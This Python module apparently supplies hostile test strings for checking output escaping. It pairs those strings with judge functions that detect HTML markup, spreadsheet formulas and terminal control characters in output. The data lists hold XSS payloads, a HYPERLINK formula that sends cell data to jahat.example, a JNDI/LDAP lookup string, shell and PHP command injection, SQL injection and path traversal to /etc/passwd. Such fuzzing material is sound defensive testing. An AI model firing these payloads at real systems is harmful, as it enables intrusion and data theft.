"""Texts that strangers type to break whoever shows them, and judges that say of an output whether one got through."""

from __future__ import annotations

import csv
import io
import json
import os
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

# markup of every way of beginning a tag, plain and hidden
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//jahat.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) ",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>klik</a>",
    "<aduan onmouseover=alert(1)>lewat sini</aduan>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<b>script>alert(1)<</b>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "<b>&lt;img src=x onerror=alert(1)&gt;</b>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "</textarea></title></style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "<style>@import'//jahat.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<b\x00>tebal</b\x00>",
    "<\u200bscript>alert(1)</\u200bscript>",
    "<p>Sudah&nbsp;<b>selesai</b></p>",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://jahat.example/?"&A1,"klik")',
    "+62812",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "＝1+1",
    "|cmd' /C calc'!A0",
    "%0A=1+1",
    '";=1+1;"',
)
STEERING = (
    "baris satu\nbaris dua",
    "baris satu\r\nSubject: palsu",
    "baris satu\rbaris dua",
    "\x1b[31mmerah\x1b[0m",
    "\x1b]0;judul\x07",
    "\x1b]8;;http://jahat.example\x1b\\klik\x1b]8;;\x1b\\",
    "\x9b31mmerah",
    "\x1b[2J\x1b[H",
    "mundur\x08\x08\x08",
    "\u202egnp.exe",
    "\u2066kiri\u2069 \u200fkanan",
    "garis\u2028baru\u2029lagi",
    "nol\x00nol",
    "tersembunyi\U000e0041\U000e0042",
    "\ufeffbom",
    "hapus\x7f",
)
ODD = (
    "{number} {text} %s %n %x {0.__class__} ${jndi:ldap://jahat.example/a} {{7*7}} `id` $(id)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "'; DROP TABLE complaints; --",
    '"; DROP TABLE complaints; --',
    "[/bold] [red]merah[/red] [link=http://jahat.example]klik[/link]",
    "Z̸̧̢͓a̷̛̺l̴̡̻g̶̺̈o̷",
    "👨‍👩‍👧‍👦 🏳️‍🌈 1️⃣",
    "ﷺ﷽",
    "NULL",
    "null",
    "NaN",
    "1e309",
    "-0",
    "\\",
    "' OR 1=1 --",
    "CON",
    "a" * 3000,
)
OWN = (*MARKUP, *FORMULAS, *STEERING, *ODD)
_FORMULA = tuple("=+-@\t\r\n＝＋－＠﹢﹣﹫−|")


def everything() -> list[str]:
    """Our own, and the lines and JSON strings of the file, or of all files below the folder, that NAUGHTY names."""
    found = dict.fromkeys(OWN)
    named = Path(os.environ.get("NAUGHTY") or os.devnull)
    for path in sorted([named, *named.rglob("*")]):
        if path.is_file():
            found |= dict.fromkeys(_lines(path))
    return [text for text in found if text]


def _lines(path: Path) -> Iterator[str]:
    text = path.read_bytes().decode("utf-8", "replace")
    try:
        yield from _strings(json.loads(text))
    except (ValueError, RecursionError):
        yield from text.split("\n")


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    for one in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from _strings(one)


# judges: what is wrong with an output; "" where nothing is ------------------------------------------------------------


def steering(text: str, *, lines: bool = True) -> str:
    """A sign that steers a terminal or turns letters; `lines` allows ends of lines and tabulators."""
    for one in text:
        if one in "\n\t" and lines:
            continue
        turns = unicodedata.bidirectional(one) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        if turns or unicodedata.category(one) in ("Cc", "Zl", "Zp", "Cs") or one in "\u061c\u200e\u200f\u200b\ufeff":
            return f"U+{ord(one):04X}"
    return ""


class _Markup(HTMLParser):
    """Everything that a browser would take for markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(" ".join((tag, *(name for name, _ in attrs))))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append("<!--")

    def handle_decl(self, decl: str) -> None:
        self.found.append("<!")

    def unknown_decl(self, data: str) -> None:
        self.found.append("<!")

    def handle_pi(self, data: str) -> None:
        self.found.append("<?")


def markup(text: str) -> list[str]:
    """Tags with their attributes, comments and declarations of what is shown as a page, also of a tag that never ends."""
    parser = _Markup()
    parser.feed(text + ' >"' + "'>-->")
    parser.close()
    return parser.found


def words(text: str) -> str:
    """Plain words that a page may show unescaped: no markup and nothing that steers."""
    return steering(text) or ", ".join(markup(text))


def sheet(content: bytes, columns: int) -> str:
    """CSV: whole rows, no cell that a program calculates, nothing that steers."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    if bad := [row for row in rows if len(row) != columns]:
        return f"a row of {len(bad[0])} cells"
    for cell in (cell for row in rows for cell in row):
        if cell.lstrip().startswith(_FORMULA) or cell.startswith(_FORMULA):
            return f"a formula {cell[:1]!r}"
        if wrong := steering(cell):
            return wrong
    return ""


def json_line(text: str) -> str:
    """One line of JSON in ASCII without a bracket that could begin a tag."""
    json.loads(text)
    return steering(text, lines=False) or ("" if text.isascii() and "<" not in text else "a tag or a raw letter")
